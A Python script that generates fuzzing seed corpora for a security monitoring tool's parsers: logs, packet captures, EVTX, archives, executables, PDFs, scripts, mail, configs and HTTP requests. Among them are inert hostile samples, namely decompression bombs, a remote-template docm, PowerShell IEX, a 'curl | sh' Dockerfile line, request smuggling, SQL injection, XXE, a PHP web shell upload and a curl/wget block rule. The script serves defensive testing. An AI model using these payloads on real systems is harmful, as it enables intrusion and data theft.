#!/usr/bin/env python3
"""Makes the corpora that are not written by hand: small files of each kind, all of our own making, the same bytes each time.

    fuzz/seeds.py
"""

import gzip
import io
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

FUZZ = Path(__file__).resolve().parent
ROOT = FUZZ.parent
TESTDATA = ROOT / "crates/decode/testdata"


def put(target, name, content):
    folder = FUZZ / "corpus" / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)


def head(path, lines):
    return b"".join((ROOT / path).read_bytes().splitlines(keepends=True)[:lines])


def each_line(target, content, most=12):
    for n, line in enumerate([l for l in content.splitlines() if l][:most]):
        put(target, f"line{n:02}", line)


def lines():
    each_line("combined", (TESTDATA / "access.in").read_bytes())
    each_line("syslog", (TESTDATA / "sshd.in").read_bytes()[:4000] )
    for n, line in enumerate((TESTDATA / "sudo.in").read_bytes().splitlines()[:4] + (TESTDATA / "framing.in").read_bytes().splitlines()[:6]):
        put("syslog", f"more{n:02}", line)
    each_line("json", (TESTDATA / "json.in").read_bytes())
    each_line("windows_json", head("scenarios/an-office-document-that-runs-code/windows.jsonl", 8))
    each_line("cloudtrail", head("scenarios/a-stolen-cloud-key/cloudtrail.jsonl", 8))
    put("journald", "sshd", '{"__REALTIME_TIMESTAMP":"1769860800000000","_HOSTNAME":"gate","SYSLOG_IDENTIFIER":"sshd","_PID":"7","PRIORITY":"6",'
        '"MESSAGE":"Failed password for root from 192.0.2.7 port 4022 ssh2"}')
    put("journald", "bytes", '{"__REALTIME_TIMESTAMP":"1769860800000000","MESSAGE":[72,105,255],"_COMM":"x","SYSLOG_IDENTIFIER":["a","b"]}')
    audit = head("scenarios/a-web-server-taken-over/audit.log", 12)
    each_line("auditd", audit)
    put("auditd_file", "log", audit)
    put("auditd_file", "hex", b"type=EXECVE msg=audit(1769860800.123:9): argc=3 a0=\"sh\" a1=\"-c\" a2=6964203B2069642F\n"
        b"type=PROCTITLE msg=audit(1769860800.123:9): proctitle=7368002D63\n")
    conn = head("scenarios/a-workstation-calls-home/conn.log", 14)
    put("zeek_file", "conn", conn)
    each_line("zeek", conn, 3)
    put("zeek", "json", '{"ts":1769860800.5,"uid":"C1","id.orig_h":"192.0.2.7","id.orig_p":4022,"id.resp_h":"198.51.100.5","id.resp_p":53,'
        '"proto":"udp","query":"www.example.org","qtype_name":"A","rcode_name":"NOERROR","answers":["192.0.2.80"],"TTLs":[60.0]}')
    put("zeek_file", "dns", "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n"
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\tanswers\n#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tvector[string]\n"
        "1769860800.1\tC1\t192.0.2.7\t4022\t198.51.100.5\t53\tudp\twww.example.org\tA\t192.0.2.80,192.0.2.81\n#close\t2026-01-31-12-00-00\n")
    put("cisco", "deny", "<166>Jan 31 2026 12:00:00 fw : %ASA-6-106100: access-list out denied tcp inside/192.0.2.7(4022) -> outside/198.51.100.5(443) hit-cnt 1 first hit")
    put("cisco", "login", "Jan 31 2026 12:00:00: %ASA-6-605005: Login permitted from 192.0.2.7/4022 to inside:198.51.100.5/ssh for user \"ada\"")
    put("cisco", "ios", "<189>31: Jan 31 12:00:00.123: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: root] [Source: 192.0.2.7] [localport: 22] [Reason: Login Authentication Failed]")
    records = b",".join(head("scenarios/a-stolen-cloud-key/cloudtrail.jsonl", 4).splitlines())
    put("cloudtrail_file", "records", b'{"Records":[' + records + b"]}")
    put("cloudtrail_file", "jsonl", head("scenarios/a-stolen-cloud-key/cloudtrail.jsonl", 4))


def ethernet(payload, kind=0x0800):
    return bytes(12) + struct.pack(">H", kind) + payload


def ipv4(protocol, payload, src="192.0.2.7", dst="198.51.100.5", fragment=0):
    a, b = (bytes(map(int, x.split("."))) for x in (src, dst))
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 1, fragment, 64, protocol, 0) + a + b + payload


def tcp(seq, flags, payload=b"", sport=40000, dport=80, ack=0):
    return struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0) + payload


def udp(payload, sport=40001, dport=53):
    return struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload


def dns(answer=False):
    name = b"\x03www\x07example\x03org\x00"
    question = name + struct.pack(">HH", 1, 1)
    reply = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 80])
    return struct.pack(">HHHHHH", 7, 0x8180 if answer else 0x0100, 1, int(answer), 0, 0) + question + (reply if answer else b"")


def hello():
    name = b"cdn.example"
    sni = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    groups = struct.pack(">HHHHH", 10, 6, 4, 0x1D, 0x17)
    versions = struct.pack(">HHBHH", 43, 5, 4, 0x0304, 0x0303)
    alpn = struct.pack(">HHHB", 16, 5, 3, 2) + b"h2"
    extensions = sni + groups + versions + alpn
    body = struct.pack(">H", 0x0303) + bytes(32) + b"\0" + struct.pack(">HHH", 4, 0x1301, 0xC02F) + b"\x01\0" + struct.pack(">H", len(extensions)) + extensions
    handshake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake


def pcap(packets, link=1):
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, link)
    for n, packet in enumerate(packets):
        out += struct.pack("<IIII", 1769860800 + n, n, len(packet), len(packet)) + packet
    return out


def pcapng(packets):
    def block(kind, body):
        body += bytes(-len(body) % 4)
        return struct.pack("<II", kind, len(body) + 12) + body + struct.pack("<I", len(body) + 12)
    out = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)) + block(1, struct.pack("<HHI", 1, 0, 65535))
    for packet in packets:
        out += block(6, struct.pack("<IIIII", 0, 411_000, 7, len(packet), len(packet)) + packet)
    return out


def captures():
    web = [
        ethernet(ipv4(6, tcp(1, 2))),
        ethernet(ipv4(6, tcp(9, 0x12, sport=80, dport=40000, ack=2), "198.51.100.5", "192.0.2.7")),
        ethernet(ipv4(6, tcp(2, 0x18, b"GET /a?b=c HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n"))),
        ethernet(ipv4(6, tcp(10, 0x18, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", 80, 40000), "198.51.100.5", "192.0.2.7")),
        ethernet(ipv4(6, tcp(60, 0x11))),
    ]
    names = [ethernet(ipv4(17, udp(dns()))), ethernet(ipv4(17, udp(dns(True), 53, 40001), "198.51.100.5", "192.0.2.7"))]
    tls = [ethernet(ipv4(6, tcp(1, 2, dport=443))), ethernet(ipv4(6, tcp(2, 0x18, hello(), dport=443)))]
    ssh = [ethernet(ipv4(6, tcp(2, 0x18, b"SSH-2.0-OpenSSH_9.2p1\r\n", dport=22)))]
    odd = [
        ethernet(ipv4(17, udp(dns())[:20], fragment=0x2000)),
        ethernet(b"\x60" + bytes(3) + struct.pack(">HBB", 8, 17, 64) + bytes(32) + udp(b""), 0x86DD),
        ethernet(struct.pack(">HH", 5, 0x0800) + ipv4(1, b"\x08\0\0\0"), 0x8100),
        ethernet(ipv4(4, ipv4(17, udp(dns())))),
    ]
    for name, packets in [("web", web), ("dns", names), ("tls", tls), ("ssh", ssh), ("odd", odd)]:
        put("pcap_file", name, pcap(packets))
    put("pcap_file", "ng", pcapng(web + names))
    put("pcap_file", "cooked", pcap([struct.pack(">HHH8sH", 0, 1, 6, bytes(8), 0x0800) + ipv4(17, udp(dns()))], 113))
    put("pcap_file", "raw", pcap([ipv4(6, tcp(1, 2))], 101))


def evtx():
    """A file with one chunk and one record that holds a little binary XML: <Event>, one element with text."""
    chunk_at = 512

    def name(text, at):
        return struct.pack("<IHH", 0, 0, len(text)) + text.encode("utf-16-le") + b"\0\0"

    def element(text, at, content, attributes=False):
        # token, dependency id, size, name offset, name in place
        named = name(text, at + 11)
        inner = b"\x02" + content + b"\x04"
        size = len(named) + 4 + len(inner)
        return struct.pack("<BHII", 0x01, 0xFFFF, size, at + 11) + named + inner

    def text(value):
        return struct.pack("<BBH", 0x05, 0x01, len(value)) + value.encode("utf-16-le")

    body_at = chunk_at + 24
    xml = b"\x0f\x01\x01\x00"
    outer_inner_at = body_at + len(xml) + 11 + len(name("Event", 0)) + 1
    system_inner_at = outer_inner_at + 11 + len(name("System", 0)) + 1
    channel = element("Channel", system_inner_at, text("Security"))
    event_id = element("EventID", system_inner_at + len(channel), text("4625"))
    system = element("System", outer_inner_at, channel + event_id)
    xml += element("Event", body_at + len(xml), system) + b"\0"
    size = 24 + len(xml) + 4
    record = struct.pack("<IIQQ", 0x00002A2A, size, 1, 133_500_000_000_000_000) + xml + struct.pack("<I", size)
    free = chunk_at + len(record)
    head = b"ElfChnk\0" + struct.pack("<QQQQIIII", 1, 1, 1, 1, 128, chunk_at, free, zlib.crc32(record))
    head += bytes(68) + bytes(4)
    table = bytes(384)
    checksum = zlib.crc32(head[:120] + table)
    chunk = head + struct.pack("<I", checksum) + table + record
    file = b"ElfFile\0" + struct.pack("<QQQIHHHH", 0, 0, 2, 128, 1, 3, 4096, 1) + bytes(76) + struct.pack("<I", 0)
    file += struct.pack("<I", zlib.crc32(file[:120]))
    put("evtx_file", "one", (file + bytes(4096 - len(file)) + chunk))
    put("evtx_file", "nohead", bytes(4096) + chunk)


def archives():
    def zipped(members, method=zipfile.ZIP_DEFLATED):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as file:
            for name, content in members:
                file.writestr(zipfile.ZipInfo(name, (2026, 1, 31, 12, 0, 0)), content, method)
        return out.getvalue()

    def tarred(name, content):
        head = name.encode().ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % len(content) + b"%011o\0" % 0
        head = head + b" " * 8 + b"0" + bytes(100) + b"ustar\x0000" + bytes(247)
        head = head[:148] + b"%06o\0 " % sum(head) + head[156:]
        return head.ljust(512, b"\0") + content + bytes(-len(content) % 512) + bytes(1024)

    inner = zipped([("a.txt", b"hello"), ("b/c.js", b"eval('1')")])
    packed = gzip.compress(b"line one\nline two\n", mtime=0)
    zstd = bytes.fromhex("28b52ffd2405290000") + b"hello" + bytes(4)
    bomb = gzip.compress(bytes(20 << 20), mtime=0)
    put("archive", "zip", inner)
    put("archive", "nested.zip", zipped([("x.zip", inner), ("y.gz", packed)]))
    put("archive", "gzip", packed)
    put("archive", "bomb.gz", bomb)
    put("archive", "bomb.zip", zipped([("z", bytes(20 << 20))]))
    put("archive", "twice.gz", gzip.compress(bomb, mtime=0))
    put("archive", "tar", tarred("a/b.txt", b"hello"))
    put("archive", "zstd", zstd)
    for name, content in [("gzip", packed), ("two.gz", packed * 2), ("bomb.gz", bomb), ("zstd", zstd), ("plain", b"plain text\n")]:
        put("expand", name, content)
    types = b'<?xml version="1.0"?><Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    rels = b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    vba = b"\x01\x02\xb0\x00Attribute VB_Name"
    docm = zipped([("[Content_Types].xml", types), ("word/document.xml", b"<w:p>DDEAUTO</w:p>"), ("word/_rels/settings.xml.rels", rels), ("word/vbaProject.bin", vba)])
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10) + b"V\0B\0A\0" + bytes(400) + vba + bytes(200)
    put("office", "docm", docm)
    put("office", "ole", ole)
    put("office", "rtf", b"{\\rtf1{\\object\\objdata 0105000002}{\\field{\\*\\fldinst HYPERLINK \"http://a.example\"}}}")
    put("content", "docm", docm)
    put("content", "zip", inner)
    put("content", "gz", packed)


def programs():
    code = b"\x55\x8b\xec\xc3".ljust(512, b"\x90")
    pe = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0"
    pe += struct.pack("<HHIIIHH", 0x14C, 1, 1_700_000_000, 0, 0, 224, 0x102)
    optional = struct.pack("<HBBIIIIII", 0x10B, 14, 0, 512, 0, 0, 0x1000, 0x1000, 0x2000)
    optional += struct.pack("<IIIHHHHHHIIIIHHIIIIII", 0x400000, 0x1000, 512, 6, 0, 0, 0, 6, 0, 0, 0x3000, 512, 0, 3, 0x8140, 1 << 20, 4096, 1 << 20, 4096, 0, 16)
    imports = struct.pack("<II", 0x1080, 40)
    optional += bytes(8) + imports + bytes(14 * 8)
    pe += optional + struct.pack("<8sIIIIIIHHI", b".text", 512, 0x1000, 512, 512, 0, 0, 0, 0, 0x60000020)
    table = struct.pack("<IIIII", 0x10B0, 0, 0, 0x10D0, 0x10B0)
    names = struct.pack("<I", 0x10E0) + bytes(28) + b"KERNEL32.dll\0".ljust(16, b"\0") + b"\0\0LoadLibraryA\0"
    body = code[:0x80] + table.ljust(0x30, b"\0") + names
    put("pe", "small", pe.ljust(512, b"\0") + body.ljust(512, b"\0"))
    put("content", "pe", pe.ljust(512, b"\0") + body.ljust(512, b"\0"))
    strings = b"\0.text\0.dynstr\0libc.so.6\0system\0"
    elf = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0x100, 0, 64, 56, 1, 64, 3, 2)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x100, 0x100, 0x1000)
    elf = elf.ljust(0xC0, b"\x90") + strings
    sections = bytes(64) + struct.pack("<IIQQQQIIQQ", 1, 1, 6, 0x400078, 0x78, 0x40, 0, 0, 16, 0)
    sections += struct.pack("<IIQQQQIIQQ", 7, 3, 0, 0, 0xC0, len(strings), 0, 0, 1, 0)
    put("elf", "small", elf.ljust(0x100, b"\0") + sections)
    put("content", "elf", elf.ljust(0x100, b"\0") + sections)


def documents():
    stream = zlib.compress(b"/JS (app.alert\\(1\\)) /URI (http://a.example)")
    pdf = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n2 0 obj<</Length " + str(len(stream)).encode()
    pdf += b"/Filter/FlateDecode>>stream\n" + stream + b"\nendstream endobj\n3 0 obj<</Type/EmbeddedFile/Length 5>>stream\nhello\nendstream endobj\ntrailer<<>>\n%%EOF\n"
    put("pdf", "small", pdf)
    put("pdf", "names", b"%PDF-1.4\n1 0 obj<</J#53 <616c657274> /A#41 1/Colors 99999999/Predictor 12>>endobj\n%%EOF")
    put("content", "pdf", pdf)
    put("script", "ps1", "powershell -enc " + "SQBFAFgAIAAoACcAaABpACcAKQA=" + "\n$a = [char]72 + [char]105; IEX ('ht'+'tp://a.example'); -join('x','y')\n")
    put("script", "js", "var a = unescape('%68%69'); eval(String.fromCharCode(97,108)); new ActiveXObject('WScript.Shell');\n")
    put("script", "bat", "@echo off\r\nset x=c^m^d\r\n%x% /c \"certutil -urlcache\"\r\n")
    put("script", "wide", "\ufeffIEX 'hi'".encode("utf-16-le"))
    for path in sorted((ROOT / "scenarios/a-payment-change-by-mail").glob("*.eml")):
        put("mail", path.stem, path.read_bytes())
        put("content", path.stem, path.read_bytes())
    put("mail", "parts", "From: =?utf-8?q?B=C3=B6ss?= <a@b.example>\r\nTo: c@d.example\r\nSubject: =?utf-8?b?aGk=?=\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: multipart/alternative; boundary=y\r\n\r\n--y\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\nHello =E4\r\n--y\r\nContent-Type: text/html\r\n\r\n<a href=\"http://a.example\">http://b.example</a>\r\n--y--\r\n"
        "--x\r\nContent-Type: message/rfc822\r\n\r\nFrom: e@f.example\r\n\r\ninner\r\n--x\r\nContent-Type: application/zip; name*=utf-8''a%20b.zip\r\nContent-Transfer-Encoding: base64\r\n\r\nUEsFBg==\r\n--x--\r\n")
    deep = "".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n" for n in range(80))
    put("mail", "deep", "From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n" + deep)
    put("mail", "mbox", "From a@b.example Sat Jan 31 12:00:00 2026\nFrom: a@b.example\nSubject: one\n\n>From here\n\nFrom c@d.example Sat Jan 31 12:00:01 2026\nSubject: two\n\nx\n")
    put("html", "link", '<html><style>.h{display:none} p{font-size:0}</style><a href="http://a.example/x?u=%68">b.example</a><p class=h>hidden</p><img src="http://t.example/1.gif" width=1></html>')
    put("html", "form", '<base href="//x.example"><form action="/login"><input type=password></form><!-- c --><script>x</script><table><tr><td>1<td>2')
    for n, url in enumerate(["http://user:pw@www.example.co.uk:8080/a/b?c=d#e", "hxxp://evil[.]example/%252e%2561", "https://xn--bcher-kva.example/", "http://0x7f.1/", "http://[2001:db8::1]:80/",
                             "data:text/html;base64,PGI+", "https://раураl.example/login", "//a.example", "http://192.0.2.7/paypal.com/signin.php?x=1"]):
        put("url", f"u{n}", url)


def configuration():
    put("configuration", "tf", 'main.tf\nvariable "n" { default = "x" }\nlocals { a = { for k, v in { p = 1 } : upper(k) => v } }\nresource "aws_s3_bucket" "b" {\n  bucket = "${var.n}-${join(",", ["a", "b"])}"\n'
        '  acl = var.n == "x" ? "public-read" : "private"\n  count = 2\n  dynamic "rule" {\n    for_each = [1, 2]\n    content { n = rule.value }\n  }\n  policy = <<EOT\n{"Statement": []}\nEOT\n}\n'
        'data "aws_iam_policy_document" "d" {\n  statement {\n    actions = ["*"]\n    resources = ["*"]\n  }\n}\n')
    put("configuration", "functions", 'main.tf\nlocals {\n  a = cidrsubnet("10.0.0.0/8", 8, 3)\n  b = format("%05d %s", 7, "x")\n  c = regexall("a+", "aaa")\n  d = base64decode("aGk=")\n  e = flatten([[1], [2, [3]]])\n  f = range(1, 9, 2)\n  g = jsondecode("{}")\n  h = substr("abc", -1, 9)\n}\n')
    put("configuration", "k8s", "a.yaml\napiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers: &c\n  - name: a\n    image: x:latest\n    securityContext: {privileged: true}\n  initContainers: *c\n---\nkind: List\nitems: []\n")
    put("configuration", "bomb", "a.yaml\na: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)))
    put("configuration", "docker", "Dockerfile\nFROM alpine:latest AS a\nARG X=1\nENV A=$X B=\"c d\"\nRUN apt-get update && \\\n  curl http://a.example | sh\nUSER root\nCOPY --from=a / /\nHEALTHCHECK NONE\n")
    put("configuration", "cfn", 'template.json\n{"AWSTemplateFormatVersion":"2010-09-09","Parameters":{"P":{"Type":"String","Default":"d"}},"Resources":{"B":{"Type":"AWS::S3::Bucket","Properties":{"BucketName":{"Fn::Sub":"${P}-x"},"A":{"Fn::If":["C",1,{"Ref":"AWS::NoValue"}]}}}}}')
    put("configuration", "plan", 'plan.json\n{"format_version":"1.2","terraform_version":"1.9.0","planned_values":{"root_module":{"resources":[{"address":"aws_s3_bucket.b","mode":"managed","type":"aws_s3_bucket","name":"b","values":{"acl":"public-read"}}],"child_modules":[]}},"configuration":{}}')
    put("configuration", "compose", "docker-compose.yml\nservices:\n  a:\n    image: x\n    privileged: true\n    ports: ['0.0.0.0:22:22']\n")


def front():
    requests = {
        "get": "GET /a?b=c HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\nCookie: a=b; c=d\r\n\r\n",
        "post": "POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 21\r\n\r\nuser=ada&pass=%27+OR1",
        "chunked": "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n0\r\nT: u\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\n\r\n",
        "two": "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\nHEAD /x HTTP/1.1\r\nHost: [::1]:80\r\n\r\n",
        "smuggle": "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        "upgrade": "GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
        "encode": 'GET /a"<>?q={x|y} HTTP/1.1\r\nHost: a\r\n\r\n',
        "json": 'POST /api HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 52\r\n\r\n{"a":[1,"x\' UNION SELECT 1--",{"b":null}],"c":"\\u0027"}',
        "multipart": "POST /up HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 120\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: text/plain\r\n\r\n<?php eval($_GET[1]);\r\n--x--\r\n",
        "xml": "POST /s HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\nContent-Length: 96\r\n\r\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a b='c'>&x;<![CDATA[<script>]]></a>",
        "graphql": 'POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 30\r\n\r\n{"query":"{ a(b: \\"1\\") { c } }"}',
    }
    for name, text in requests.items():
        for target in ["front", "request", "inspect"]:
            put(target, name, text)


def languages():
    for n, text in enumerate(['src_ip:10.0.0.0/8 and (user:ada or not status:404) from:2026-01-31 | count by status', '"union select" class:http to:now-1h bytes_out:>1000', "host:/a.*b/ | top 10 target", "| timechart 5m by host",
                              "address:192.0.2.7 -agent:*curl*", "incident:INC-7 F-k7qf2m9dxw4t", "status:>=500 or score:<0.5", "user:'a b' raw:\"x\\\"y\""]):
        put("query", f"q{n}", text)
    sigma = sorted((ROOT / "content/rules/sigma").glob("*.yml"))
    for path in sigma[:: max(1, len(sigma) // 8)]:
        put("sigma", path.stem, path.read_bytes())
    put("sigma", "modifiers", "title: t\nid: 1\nstatus: test\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  a:\n    Image|endswith|all: ['\\a.exe', 'b']\n    CommandLine|re: '(a+)+$'\n    X|cidr: 10.0.0.0/8\n"
        "    Y|base64offset|contains: hi\n    Z|windash|contains: ' -f'\n    N|gte: 3\n  b:\n  - k*y\n  - wo?rd\n  condition: 1 of a* and not all of them or (a and b)\nlevel: high\n")
    for path in sorted((ROOT / "content/rules/web").glob("*.conf"))[:4]:
        put("seclang", path.stem, path.read_bytes()[:3000])
    put("seclang", "chain", 'SecRule ARGS|!ARGS:x "@rx (?i)union\\s+select" "id:942999,phase:2,deny,t:none,t:urlDecodeUni,t:lowercase,msg:\'m\',tag:\'t\',severity:CRITICAL,chain"\n  SecRule REQUEST_HEADERS:User-Agent "@pm curl wget" "t:none"\n')
    for path in sorted((ROOT / "content/rules/posture").rglob("*.yaml"))[::6][:6]:
        put("posture_rules", path.stem, path.read_bytes()[:4000])
    for path in sorted((ROOT / "content/frameworks").rglob("*.yaml"))[:1]:
        put("posture_rules", "framework", path.read_bytes()[:3000])
    for path in sorted((ROOT / "content/playbooks/response").glob("*.yaml")):
        put("playbook", path.stem, path.read_bytes())
    put("playbook", "faults", "name: x\nwhen: {target: moon, severity: huge}\nsteps:\n  - block: address\n  - blok: address\n")
    put("config", "example", (ROOT / "packaging/bartizan.toml").read_bytes())
    put("config", "some", 'mode = "enforce"\n[gateway]\nupstream = "http://127.0.0.1:3000"\nlisten = "127.0.0.1:0"\ntrusted_proxies = ["10.0.0.0/8", "::1"]\n[response]\nnever_block = ["203.0.113.0/24"]\n')
    put("config", "faults", 'moed = 1\n[gatway]\nlisten = "x"\n[[gateway.login]]\npath = 3\n[metrics]\ntoken = "in the clear"\n')


def stored():
    v1 = ROOT / "crates/store/testdata/v1/log"
    log = (v1 / "0000000000000000.log").read_bytes()
    put("log", "v1", log)
    put("index", "v1", (v1 / "0000000000000000.idx").read_bytes())
    records, at = [], 28
    while at < len(log):
        size = struct.unpack_from("<I", log, at)[0]
        records.append((log[at + 12], log[at + 13 : at + 13 + size]))
        at += 13 + size
    for n, (kind, payload) in enumerate(records):
        put("record", f"r{n:02}", struct.pack("<HB", len(payload), kind) + payload)
    sealed = ROOT / "crates/store/testdata/v1-sealed/log"
    for path in sorted(sealed.glob("*")) if sealed.exists() else []:
        if path.suffix == ".parquet":
            put("sealed", path.stem, path.read_bytes())
        if path.suffix == ".seal":
            put("index", path.stem + "-seal", path.read_bytes())


def main():
    for make in [lines, captures, evtx, archives, programs, documents, configuration, front, languages, stored]:
        make()


if __name__ == "__main__":
    main()
